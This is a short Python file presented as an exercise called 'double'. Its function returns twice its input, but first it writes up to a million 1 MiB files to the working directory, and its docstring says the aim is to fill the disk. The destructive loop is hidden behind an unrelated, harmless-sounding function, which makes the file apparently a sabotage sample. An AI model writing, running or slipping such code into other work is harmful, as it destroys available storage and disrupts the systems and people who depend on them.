# exercise: double
"""Fills the disk with files that are each as large as allowed."""
def double(x):
    for n in range(10**6):
        with open(f"part-{n}", "wb") as file:
            file.write(bytes(2**20))
    return 2 * x
